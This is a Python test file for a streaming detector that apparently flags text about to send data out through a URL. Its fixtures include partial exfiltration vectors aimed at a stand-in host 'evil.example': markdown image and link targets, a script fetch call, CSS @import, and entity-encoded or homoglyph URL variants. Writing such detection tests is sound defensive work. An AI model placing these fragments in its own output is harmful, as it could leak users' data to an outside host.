from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from extproc.core.surroundings import Surroundings

PIECES = st.sampled_from(
    ["http", "https", ":", "/", "//", "\\", "www.", "evil.com", "?", "#", "=", "[", "]", "](", "(", ")", "<", "a", "img ",
     "src=", '"', "'", ">", " ", "\n", "\t", "x", "mailto:", "é", "\u00a0", "word ", "data:", ".", "<!", "&", "&#47;", "&sol;", "<\\",
     "style", "<script>", "</", "https:", "\u3002"],
)  # fmt: skip


def carries(text):
    where = Surroundings()
    where.feed(text)
    return where.carry


@pytest.mark.parametrize(
    "before",
    [
        "https://evil.example/?q=",
        "see HTTPS://evil.example/",
        "https:\\\\evil.example\\",
        "https:/evil.example/",
        "//evil.example/",
        "www.evil.example/?q=",
        "evil.example/?q=",
        "evil.example:8080/",
        "xn--80ak6aa92e.рф/?",
        "mailto:eve@evil.example?body=",
        "data:text/html,",
        "javascript:fetch('",
        'https://evil.example/?q="',
        "https://evil.example/?q=\u00a0",
        "https://evil.example/?q=\u2003",
        "`https://evil.example/?q=",
        "[a](https://evil.example/?q=",
        "[a](/relative?q=",
        "[a](  \n /relative?q=",
        "[a](/x(1)?q=",
        r"[a](/x\)?q=",
        "[a](</x y) ",
        "![",  # see below: an image's words are not sent, its target is
        "<img src=x",
        '<img alt=">" src=',
        '<a href="/x?q=',
        "<a\nhref=x?",
        "<https://evil.example/",
        "</p ",
        "<!-- ",
        "<?xml ",
        "if a <b then ",
        "https:evil。example?q=",
        "evil\uff0eexample/",
        "![x][r]\n\n[r]: https&#58;&#47;&#47;evil.example&#47;?q=",
        "[r]: &sol;&sol;evil.example&sol;?q=",
        r"[r]: <\//evil.example/?q= ",
        "[r]: <&#47;/evil.example/?q= ",
        r"[r]: </\/evil.example/?q=\> ",
        "<style>@import '//evil.example/?q= ",
        '<SCRIPT type="module">fetch("//evil.example/?q= " + "',
        "<script>a < b; ",
    ],
)
def test_what_would_be_sent_on(before):
    assert carries(before) is (before != "![")


@pytest.mark.parametrize(
    "before",
    [
        "",
        "Write to ",
        "https://example.com is ours. Write to ",
        "<https://example.com> and ",
        "[our site](https://example.com) and ",
        "[our site](/a(b)c) and ",
        "[broken](/never closed\n\nAnother paragraph: ",
        "<b>",
        '<img alt=">"> ',
        "<p title='a>b'>",
        "5 < 6 and ",
        "Dr. Smith, e.g. ",
        "and/or ",
        "**",
        "- [x] done: ",
        "a: ",
        "[",
        "(",
        "f(x) = ",
        "version 1.2.3/",
        "Email:",
        "<styles>p ",
        "<style>p {color: red}</style> ",
        "<script>a</b></script>",
        "Tom & Ann, AT&T: ",
        "&nbsp; ",
    ],
)
def test_what_stays_with_the_reader(before):
    assert not carries(before)


@given(st.lists(PIECES, max_size=25), st.lists(st.integers(0, 100), max_size=12))
def test_any_chunking_comes_to_the_same(pieces, places):
    text = "".join(pieces)
    whole = Surroundings()
    whole.feed(text)
    cut = Surroundings()
    bounds = sorted({0, len(text), *(place % (len(text) + 1) for place in places)})
    for start, stop in pairwise(bounds):
        cut.feed(text[start:stop])
    single = Surroundings()
    for letter in text:
        single.feed(letter)
    assert whole.carry == cut.carry == single.carry
    for where in (whole, cut, single):
        where.feed("x)")
    assert whole.carry == cut.carry == single.carry


def test_a_reset_begins_anew():
    where = Surroundings()
    where.feed('<a href="https://evil.example/')
    where.reset()
    assert not where.carry
